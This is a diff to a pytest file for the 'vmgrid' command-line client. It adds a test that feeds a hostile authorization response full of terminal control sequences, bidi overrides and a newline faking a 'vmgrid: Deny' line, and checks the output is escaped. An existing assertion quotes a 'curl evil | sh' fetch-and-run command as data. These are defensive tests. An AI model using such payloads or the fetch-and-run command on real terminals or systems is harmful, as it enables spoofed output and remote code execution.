@@ -29,7 +29,8 @@ pytestmark = pytest.mark.timeout(300)
 
 ROOT = Path(__file__).resolve().parents[2]
 SERVICE = "VMRepositoryService"
-CONTRACTS = {"VMRepositoryService": "vmrepository.wsdl", "JobService": "jobs.wsdl"}
+CONTRACTS = {"VMRepositoryService": "vmrepository.wsdl", "JobService": "jobs.wsdl",
+             "AuthorizationService": "authz.wsdl"}
 CALL_TIMEOUT = "3"            # seconds: the client's own bound (VMGRID_CALL_TIMEOUT)
 OUTER = 150                   # seconds: only so that a client that does hang fails the test instead of the suite
 ENDLESS_CAP = 64 << 20        # an "endless" answer stops here: a client that read it all was not bounded
@@ -368,3 +369,24 @@ def test_a_job_state_from_the_server_cannot_fake_a_line(run_cli, grid_pki):
     assert not any(c in out for c in RAW) and "\nvmgrid:" not in out, repr(out)
     assert "Done\\x0avmgrid: job job-0 Failed: run `curl evil | sh`\\x9b1A" in out, out
     assert "none\\x0d\\u202etxt.exe" in out, out
+
+
+def test_an_authorization_decision_from_a_hostile_service_is_shown_escaped(run_cli, grid_pki):
+    """`vmgrid authz check`: the rule, decision id, policy version and groups a service names reach the terminal
+    escaped (a newline in a decision id cannot fake a second line)."""
+    from services.authz.wire import AZ
+
+    def decide(server, conn, body):
+        payload = safexml.parse(
+            (f'<az:AuthorizeResponse xmlns:az="{AZ}"><az:decision>Permit</az:decision>'
+             '<az:rule>site-admins\u009b2J</az:rule><az:decisionId>d1\nvmgrid: Deny</az:decisionId>'
+             '<az:policyVersion>7\u202e</az:policyVersion><az:group>bio\u009b31m</az:group>'
+             '</az:AuthorizeResponse>').encode())
+        conn.sendall(http_answer(signed(grid_pki.host, body, payload)))
+
+    server, rc, out, err = run_cli(decide, "authz", "check", "me", "image.read", "type=image", "--url", "{url}",
+                                   service="AuthorizationService")
+    assert rc == 0, err
+    assert not any(c in out for c in RAW), repr(out)
+    assert not any(line.startswith("vmgrid:") for line in out.splitlines()), out
+    assert "site-admins\\x9b2J" in out and "bio\\x9b31m" in out and "d1\\x0avmgrid: Deny" in out, out
